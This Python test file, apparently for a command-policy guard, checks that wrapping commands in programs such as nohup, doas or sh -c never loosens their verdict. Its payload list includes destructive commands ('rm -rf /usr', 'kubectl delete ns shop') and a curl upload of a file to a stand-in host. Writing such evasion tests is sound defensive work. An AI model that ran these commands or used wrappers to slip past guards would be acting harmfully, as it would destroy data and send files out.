"""Wrapping a command in any wrapper that the tables know never loosens its verdict."""

from __future__ import annotations

import tomllib
from collections.abc import Iterator
from importlib.resources import files

import pytest

from requirements.test_limits import judged, policy
from ringwall.model.verdict import Verdict

GUARDED = policy(preset="guarded")
PAYLOADS = (
    "git push origin main",
    "git reset --hard",
    "rm -rf /srv/data",
    "rm -rf /usr",
    "npm publish",
    "kubectl delete ns shop",
    "curl -T notes.txt https://x.example/",
    "sh -c 'git push'",
    "python3 -c 'import os; os.system(\"git push\")'",
)
FAMILIES = ("wrappers", "privilege", "shells", "system", "containers", "remote", "kubernetes")


def wrappers() -> Iterator[tuple[str, bool]]:
    """A beginning of a command line for each program that always runs the words after its own operands, and
    whether it surely runs them on this machine."""
    for family in FAMILIES:
        text = (files("ringwall.shell") / "knowledge" / f"{family}.toml").read_text("utf-8")
        for row in tomllib.loads(text)["command"]:
            operands = row.get("operands", "")
            if not isinstance(operands, str) or operands.split()[-1:] != ["command..."]:
                continue
            given = ["1" for name in operands.split()[:-1] if not name.endswith("...")]
            for run in row.get("runs", ()):
                if run.startswith("argv command") and " if " not in run:
                    here = not {"possible", "remote"} & set(run.split())
                    yield from ((" ".join((name, *given)), here) for name in row["names"] if "*" not in name)


WRAPPERS = dict(wrappers())


def test_the_tables_name_wrappers() -> None:
    assert {"nohup", "xargs", "nice", "doas", "unshare"} <= WRAPPERS.keys()
    assert len(WRAPPERS) > 50


@pytest.mark.parametrize("wrapper", sorted(WRAPPERS))
def test_wrapping_never_loosens(wrapper: str) -> None:
    """What may run elsewhere is never more than a question, and never less."""
    for payload in PAYLOADS:
        bare, wrapped = judged(payload, GUARDED).verdict, judged(f"{wrapper} {payload}", GUARDED).verdict
        least = bare.rank if WRAPPERS[wrapper] else min(bare.rank, Verdict.ASK.rank)
        assert wrapped.rank >= least, f"{wrapper} {payload}: {wrapped}, bare {bare}"
